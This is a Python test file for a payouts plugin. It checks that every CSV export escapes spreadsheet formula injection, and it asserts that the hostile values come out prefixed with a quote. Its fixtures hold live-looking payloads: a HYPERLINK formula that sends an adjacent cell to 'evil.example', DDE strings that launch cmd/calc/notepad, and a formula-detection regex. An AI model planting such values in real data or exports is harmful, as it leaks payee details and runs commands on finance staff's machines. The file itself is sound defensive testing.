"""Every export, through the API and the command, with a hostile value in every text column:
no cell opens as a formula in finance's spreadsheet (issue 9, security item 5)."""

import csv
import io
import re
from datetime import timedelta
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.utils import timezone
from graphql_relay import to_global_id

from saleor_wfx_plugin import encryption
from saleor_wfx_plugin.domain.settings import ProgramSettings
from saleor_wfx_plugin.errors import PayoutError
from saleor_wfx_plugin.models import Distributor, Payout, PayoutBatch, TaxIdentity
from saleor_wfx_plugin.services.payouts import PayeeDetails, approve_payout, request_payout
from tests.services.helpers import staff_adjusts_balance

from .conftest import staff

pytestmark = pytest.mark.django_db

CASHIER = staff("HANDLE_PAYMENTS")
# The payload of the report: a link that mails the cell beside it (the next payee's card).
LINK = '=HYPERLINK("http://evil.example/?"&C2&"@x.y","Pay")'
HOSTILE_CODE = '=CMD|"/C CALC"!A1'
HOSTILE_NAME = "+SUM(1+1)*cmd|'/c calc'!A0"
HOSTILE_BANK = "@SUM(A1:A9)"
# Stored before the account check was tightened; leading spaces hide a formula from a
# first-character check only.
LEGACY_ACCOUNT = "  " + LINK
HOSTILE_LEGAL_NAME = "-2+3+cmd|' /C notepad'!'A1'"
HOSTILE_ID_NUMBER = "\t=1+1"
FORMULA = re.compile(r"\s*[=+\-@]|[\t\r]")
NUMBER = re.compile(r"-?\d+(\.\d+)?")


def _unsafe_cells(content):
    rows = list(csv.reader(io.StringIO(content)))
    assert len(rows) > 1, content  # a header and rows: the scan saw data
    return [
        cell
        for row in rows
        for cell in row
        if (FORMULA.match(cell) and not NUMBER.fullmatch(cell)) or "\n" in cell or "\r" in cell
    ]


def _rows(content):
    return list(csv.DictReader(io.StringIO(content)))


@pytest.fixture
def hostile(tree):
    d = tree[3]
    Distributor.objects.filter(pk=d.pk).update(code=HOSTILE_CODE)
    d.refresh_from_db()
    staff_adjusts_balance(distributor_id=d.pk, currency="CNY", amount=Decimal(3000), reason="x")
    payee = PayeeDetails("bank", HOSTILE_NAME, "6222021234567890123", HOSTILE_BANK, "")
    payouts = []
    for key in ("a", "b", "c"):
        payout = request_payout(
            d,
            currency="CNY",
            amount="900",
            payee=payee
            if payouts
            else PayeeDetails(
                "bank", HOSTILE_NAME, "6222021234567890123", HOSTILE_BANK, "11010519491231002X"
            ),
            idempotency_key=key,
            actor="user:4",
            program=ProgramSettings(),
        )
        payouts.append(payout)
    Payout.objects.filter(pk=payouts[0].pk).update(
        payee_account_ciphertext=encryption.encrypt(LEGACY_ACCOUNT)
    )
    TaxIdentity.objects.update(
        legal_name=HOSTILE_LEGAL_NAME,
        id_number_ciphertext=encryption.encrypt(HOSTILE_ID_NUMBER),
        id_number_masked="@" + "*" * 14 + "002X",
    )
    program = ProgramSettings()
    for payout in payouts[:2]:
        approve_payout(payout, actor="user:900", program=program)
    return d, payouts


def test_every_export_escapes_every_text_column(api, hostile):
    _, payouts = hostile
    exports = {}
    exports["preview"] = api.ok("{ payoutTransfersCsv { content } }", viewer=CASHIER)[
        "payoutTransfersCsv"
    ]["content"]
    command = io.StringIO()
    call_command("wfx_export_payouts", "transfers", stdout=command, stderr=io.StringIO())
    exports["command transfers"] = command.getvalue()
    batch = PayoutBatch.objects.get()
    again = io.StringIO()
    call_command("wfx_export_payouts", "transfers", "--batch", str(batch.pk), stdout=again)
    exports["command --batch"] = again.getvalue()
    exports["payoutBatch.transfersCsv"] = api.ok(
        "query($id: ID!) { payoutBatch(id: $id) { transfersCsv { content } } }",
        {"id": to_global_id("PayoutBatch", batch.pk)},
        viewer=CASHIER,
    )["payoutBatch"]["transfersCsv"]["content"]
    approve_payout(payouts[2], actor="user:900", program=ProgramSettings())
    exports["payoutBatchCreate"] = api.ok(
        "mutation { payoutBatchCreate { errors { code } export { content } } }", viewer=CASHIER
    )["payoutBatchCreate"]["export"]["content"]
    month = timezone.localdate().replace(day=1)
    exports["taxRecordsCsv"] = api.ok(
        "query($m: Date!) { taxRecordsCsv(month: $m) { content } }",
        {"m": month.isoformat()},
        viewer=CASHIER,
    )["taxRecordsCsv"]["content"]
    tax = io.StringIO()
    call_command("wfx_export_payouts", "tax", "--month", f"{month:%Y-%m}", stdout=tax)
    exports["command tax"] = tax.getvalue()
    last_month = (month - timedelta(days=1)).replace(day=1)
    Payout.objects.update(tax_month=last_month)
    exports["taxWithholdingExport"] = api.ok(
        "mutation($m: Date!) { taxWithholdingExport(month: $m) { errors { code } "
        "export { content } } }",
        {"m": last_month.isoformat()},
        viewer=CASHIER,
    )["taxWithholdingExport"]["export"]["content"]
    withholding = io.StringIO()
    call_command(
        "wfx_export_payouts",
        "withholding",
        "--month",
        f"{last_month:%Y-%m}",
        stdout=withholding,
        stderr=io.StringIO(),
    )
    exports["command withholding"] = withholding.getvalue()
    exports["monthlyStatementsCsv"] = api.ok(
        "query($m: Date!) { monthlyStatementsCsv(month: $m) { content } }",
        {"m": month.isoformat()},
        viewer=CASHIER,
    )["monthlyStatementsCsv"]["content"]

    for name, content in exports.items():
        assert _unsafe_cells(content) == [], name

    # The hostile values are there, as text: escaped, not dropped.
    for name in ("preview", "command transfers", "command --batch", "payoutBatch.transfersCsv"):
        legacy = next(r for r in _rows(exports[name]) if r["payout_id"] == str(payouts[0].pk))
        assert (legacy["distributor_code"], legacy["payee_name"], legacy["bank"]) == (
            "'" + HOSTILE_CODE,
            "'" + HOSTILE_NAME,
            "'" + HOSTILE_BANK,
        ), name
        assert legacy["account"] == "'" + LEGACY_ACCOUNT, name
    [created] = _rows(exports["payoutBatchCreate"])
    # A number stays a number: the month's 2,700 owe (2,700 − 800) × 20 % = 380, of which the
    # first two withheld 200; this one 180, so 720 to transfer.
    assert (created["payee_name"], created["amount"]) == ("'" + HOSTILE_NAME, "720.00")
    for name in ("taxRecordsCsv", "command tax"):
        [row] = _rows(exports[name])
        assert (row["distributor_code"], row["payee_name"], row["id_number_masked"]) == (
            "'" + HOSTILE_CODE,
            "'" + HOSTILE_NAME,
            "'@**************002X",
        ), name
    for name in ("taxWithholdingExport", "command withholding"):
        [row] = _rows(exports[name])
        assert "'" + HOSTILE_LEGAL_NAME in row.values(), name
        assert "'" + HOSTILE_ID_NUMBER in row.values(), name
        assert "'" + HOSTILE_CODE in row.values(), name
    # The statements go through the one writer: every cell quoted, the code escaped.
    assert exports["monthlyStatementsCsv"].startswith('"distributor","month"')
    assert "'" + HOSTILE_CODE in {
        row["distributor"] for row in _rows(exports["monthlyStatementsCsv"])
    }


def test_a_formula_is_not_an_alipay_e_mail_address(tree):
    d = tree[3]
    staff_adjusts_balance(distributor_id=d.pk, currency="CNY", amount=Decimal(100), reason="x")
    with pytest.raises(PayoutError) as refused:
        request_payout(
            d,
            currency="CNY",
            amount="50",
            payee=PayeeDetails("alipay", "丁", LINK, ""),
            idempotency_key="k",
            actor="user:4",
            program=ProgramSettings(),
        )
    assert (refused.value.code, refused.value.field) == ("invalid_payee", "account")
    assert "mainland mobile number" in str(refused.value)
    assert "name@example.com" in str(refused.value)
    assert not Payout.objects.exists()
